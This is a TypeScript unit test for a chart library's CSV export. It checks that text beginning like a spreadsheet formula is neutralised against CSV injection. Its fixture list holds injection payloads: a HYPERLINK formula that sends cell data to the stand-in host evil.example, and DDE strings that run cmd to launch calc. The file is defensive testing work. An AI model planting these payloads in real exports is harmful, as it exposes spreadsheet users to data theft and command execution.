/**
 * A chart's CSV is opened in spreadsheets. Text that starts like a formula must reach the reader
 * as text (OWASP "CSV injection"): a leading single quote, and the cell quoted.
 */
import { csvParseRows } from 'd3-dsv';
import fs from 'node:fs';
import { describe, expect, test } from 'vitest';
import { datasetToCsv } from '@/lib/charts/csv';
import type { ColumnDataset } from '@/lib/data/schema';
import { LANGS } from '@/lib/i18n/lang';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click for the data")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '-HYPERLINK("https://evil.example/")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];
/** Text that only looks like it: a negative number, a dash inside, a formula sign after the start. */
const HARMLESS = ['-5', '-1,5', '-12 %', 'Masks - the count', 'Plain text', 'a=b', ''];

const fixture = JSON.parse(fs.readFileSync('tests/unit/charts/fixtures/valid/fixture-column.json', 'utf8')) as ColumnDataset;
const template = fixture.values.find((v) => v.value !== null)!;
/** One value per text: the text in every text column the CSV writes, and -5 as the number. */
const dataset = (texts: string[]): ColumnDataset => ({
  ...fixture,
  units: 'gadgets',
  sources: fixture.sources.map((s) => ({ ...s })),
  values: texts.map((text) => ({ ...template, label: text, basis: text, value: -5, qualifier: undefined, note: text, speaker: text, quote: text })),
});

/** The CSV as a spreadsheet reads it: rows of cells, the header row dropped. */
const cells = (csv: string) => csvParseRows(csv.replace(/\r\n$/, '')).slice(1);

describe.each(LANGS)('%s CSV', (lang) => {
  test('a text cell that starts like a formula gets a single quote before it, and quotes around it', () => {
    const csv = datasetToCsv(dataset(FORMULAS), lang);
    const rows = cells(csv);
    expect(rows).toHaveLength(FORMULAS.length);
    rows.forEach((row, i) => {
      const text = FORMULAS[i];
      // label, basis, note, speaker and quote all hold the text: each neutralised; the value stays a number.
      expect(row.filter((c) => c === `'${text}`)).toHaveLength(5);
      expect(row).not.toContain(text);
      expect(row).toContain('-5');
      expect(csv).toContain(`,"'${text.replace(/"/g, '""')}",`);
    });
  });

  test('numbers such as -5, and text that only looks like a formula, are left alone', () => {
    const rows = cells(datasetToCsv(dataset(HARMLESS), lang));
    rows.forEach((row, i) => {
      expect(row.filter((c) => c === HARMLESS[i]).length).toBeGreaterThanOrEqual(5);
      expect(row.some((c) => c.startsWith("'"))).toBe(false);
    });
  });
});
